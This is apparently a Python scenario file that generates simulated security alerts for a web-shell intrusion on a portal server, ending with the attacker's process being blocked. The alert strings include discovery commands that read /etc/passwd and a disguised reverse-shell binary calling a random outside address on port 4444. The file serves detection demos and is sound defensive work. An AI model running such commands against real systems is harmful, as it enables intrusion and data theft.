"""A web shell on a portal server in the DMZ: upload, commands, reverse shell, a reach for the database."""

from collections.abc import Iterator
from random import Random

from backend.sources.demo import eve
from backend.sources.demo.draft import Beat, Rule, repeated
from backend.sources.demo.eve import EveAlert
from backend.sources.demo.ocsf import IRONLEAF, Finding, Proc
from backend.sources.demo.world import World, hex_string, outside_domain, outside_ip

WORDLIST = Rule(
    "9100101",
    "NDR SCAN Directory brute force from single source (404 flood)",
    2,
    ("T1595.003/TA0043",),
    "Attempted Information Leak",
)
UPLOAD = Rule(
    "9100102",
    "NDR WEB_SERVER PHP file in multipart upload to image form",
    3,
    ("T1190/TA0001",),
    "Web Application Attack",
)
OUTPUT = Rule(
    "9100103",
    "NDR WEB_SERVER Command output from upload folder, likely web shell",
    4,
    ("T1505.003/TA0003",),
    "Successful Administrator Privilege Gain",
)
SPAWN = Rule(
    "IL-1120",
    "Web server process spawned a shell",
    4,
    ("T1059.004/TA0002", "T1505.003/TA0003"),
    "The web service account ran an interactive shell, which this service has not done in 90 days.",
)
DISCOVERY = Rule(
    "IL-1311",
    "Account and network discovery commands in quick succession",
    3,
    ("T1033/TA0007", "T1049/TA0007"),
)
DOWNLOAD = Rule(
    "9100104",
    "NDR INFO ELF download by curl from bare IP address",
    3,
    ("T1105/TA0011",),
    "Potentially Bad Traffic",
)
REVERSE = Rule(
    "IL-1190",
    "Reverse shell: interactive shell bound to remote socket",
    5,
    ("T1059.004/TA0002", "T1571/TA0011"),
    "A shell's standard streams are connected to an outside address. Someone may be typing in it.",
)
DATABASE = Rule(
    "9100105",
    "NDR POLICY Direct database connection from web tier past the pooler",
    4,
    ("T1046/TA0007",),
    "Potential Corporate Privacy Violation",
)
KILLED = Rule("IL-9001", "Process terminated by response policy", 1)


def play(world: World, rng: Random) -> Iterator[Beat]:
    """Unfold over about four minutes."""
    web = world.host("web-01")
    service = world.service("svc-web")
    attacker, staging = outside_ip(rng), outside_ip(rng)
    site, shell = f"portal.{web.fqdn.split('.', 1)[1]}", f"img_{rng.randint(100, 999)}.php"
    tool, digest = rng.choice(("kworkerd", "dbus-sync", "logrotated")), hex_string(rng, 64)
    agent = f"python-requests/2.{rng.randint(25, 32)}"
    parts = outside_domain(rng)

    def probe(rule: Rule, url: str, *, method: str = "GET", status: int = 200) -> EveAlert:
        return EveAlert(
            rule=rule,
            src=attacker,
            dst=web.ip,
            dport=80,
            app="http",
            detail=eve.http(site, url, agent, method=method, status=status, length=rng.randint(90, 4000)),
        )

    def ran(rule: Rule, name: str, cmd_line: str, parent: str, action: str = "Allowed") -> Finding:
        return Finding(
            product=IRONLEAF,
            rule=rule,
            host=web,
            user=service,
            action=action,
            proc=Proc(name, f"/usr/bin/{name}", cmd_line, parent),
        )

    yield from repeated(probe(WORDLIST, "/backup.zip", status=404), 0, 6, 3)
    yield Beat(22, probe(UPLOAD, "/profile/avatar", method="POST", status=201))
    yield Beat(44, probe(OUTPUT, f"/uploads/{shell}?c=id"))
    yield Beat(52, ran(SPAWN, "sh", "sh -c id; uname -a", "php-fpm"))
    yield Beat(78, ran(DISCOVERY, "sh", "sh -c 'whoami; cat /etc/passwd; ss -tnp; ip route'", "php-fpm"))
    yield Beat(
        112,
        EveAlert(
            rule=DOWNLOAD,
            src=web.ip,
            dst=staging,
            dport=8080,
            app="http",
            detail=eve.http(staging, f"/{tool}", "curl/8.5", length=rng.randint(400_000, 900_000)),
        ),
    )
    yield Beat(
        150,
        Finding(
            product=IRONLEAF,
            rule=REVERSE,
            host=web,
            user=service,
            dst=staging,
            dport=4444,
            domain=parts,
            action="Allowed",
            proc=Proc(
                tool, f"/var/www/uploads/.{tool}", f"/var/www/uploads/.{tool} -c {staging}:4444", "sh", digest
            ),
        ),
    )
    yield Beat(196, EveAlert(rule=DATABASE, src=web.ip, dst=world.host("db-01").ip, dport=5432))
    yield Beat(
        244,
        Finding(
            product=IRONLEAF,
            rule=KILLED,
            host=web,
            user=service,
            action="Blocked",
            proc=Proc(
                tool, f"/var/www/uploads/.{tool}", f"/var/www/uploads/.{tool} -c {staging}:4444", "sh", digest
            ),
        ),
    )
